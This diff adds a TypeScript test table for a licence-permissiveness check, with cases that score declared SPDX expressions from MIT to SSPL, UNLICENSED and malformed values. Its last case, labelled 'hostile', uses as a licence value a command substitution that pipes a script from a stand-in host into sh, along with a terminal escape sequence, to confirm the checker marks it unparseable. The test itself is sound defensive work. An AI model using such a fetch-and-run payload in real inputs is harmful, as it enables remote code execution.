@@ -1,0 +1,46 @@
+import check from '../../src/checks/license-permissiveness.js';
+import { evidence } from '../support/evidence-builder.js';
+import { checkTable } from './check-table.js';
+
+const declared = (license: string | null) => evidence({ registry: { license } });
+
+checkTable(check, [
+  { name: 'MIT', evidence: declared('MIT'), score: 100, messageId: 'permissive', data: { class: 'permissive', license: 'MIT' } },
+  { name: '(MIT OR Apache-2.0)', evidence: declared('(MIT OR Apache-2.0)'), score: 100, messageId: 'permissive' },
+  { name: 'BSD-3-Clause', evidence: declared('BSD-3-Clause'), score: 100, messageId: 'permissive' },
+  { name: 'GPL-3.0-only AND MIT: the worst', evidence: declared('GPL-3.0-only AND MIT'), score: 60, messageId: 'strong-copyleft' },
+  { name: 'GPL-3.0-only OR MIT: the best', evidence: declared('GPL-3.0-only OR MIT'), score: 100, messageId: 'permissive' },
+  { name: 'GPL-2.0+', evidence: declared('GPL-2.0+'), score: 60, messageId: 'strong-copyleft' },
+  {
+    name: 'WITH exception counts as the licence',
+    evidence: declared('GPL-2.0-only WITH Classpath-exception-2.0'),
+    score: 60,
+    messageId: 'strong-copyleft',
+  },
+  { name: 'LGPL-2.1-only', evidence: declared('LGPL-2.1-only'), score: 80, messageId: 'weak-copyleft' },
+  { name: 'MPL-2.0', evidence: declared('MPL-2.0'), score: 80, messageId: 'weak-copyleft' },
+  { name: 'EPL-2.0', evidence: declared('EPL-2.0'), score: 80, messageId: 'weak-copyleft' },
+  { name: 'AGPL-3.0-only', evidence: declared('AGPL-3.0-only'), score: 45, messageId: 'network-copyleft' },
+  { name: 'SSPL-1.0', evidence: declared('SSPL-1.0'), score: 45, messageId: 'network-copyleft' },
+  {
+    name: 'nested: MIT AND (LGPL-2.1-only OR AGPL-3.0-only)',
+    evidence: declared('MIT AND (LGPL-2.1-only OR AGPL-3.0-only)'),
+    score: 80,
+    messageId: 'weak-copyleft',
+    data: { ids: ['MIT', 'LGPL-2.1-only', 'AGPL-3.0-only'] },
+  },
+  { name: 'CC-BY-NC-4.0', evidence: declared('CC-BY-NC-4.0'), score: 25, messageId: 'restricted', data: { class: 'restricted' } },
+  { name: 'LicenseRef', evidence: declared('LicenseRef-Proprietary'), score: 25, messageId: 'restricted' },
+  {
+    name: 'Apache 2.0 is classified after correction',
+    evidence: declared('Apache 2.0'),
+    score: 100,
+    messageId: 'permissive',
+    data: { license: 'Apache-2.0', declared: 'Apache 2.0' },
+  },
+  { name: 'UNLICENSED', evidence: declared('UNLICENSED'), score: 25, messageId: 'unlicensed' },
+  { name: 'SEE LICENSE IN', evidence: declared('SEE LICENSE IN LICENSE.txt'), score: 25, messageId: 'custom', data: { file: 'LICENSE.txt' } },
+  { name: 'no licence', evidence: declared(null), score: 25, messageId: 'none', message: ['all rights reserved by default'] },
+  { name: 'unparseable', evidence: declared('Public Domain'), score: 25, messageId: 'unparseable' },
+  { name: 'hostile', evidence: declared('$(curl evil.test | sh) \u001b[2J'), score: 25, messageId: 'unparseable' },
+]);
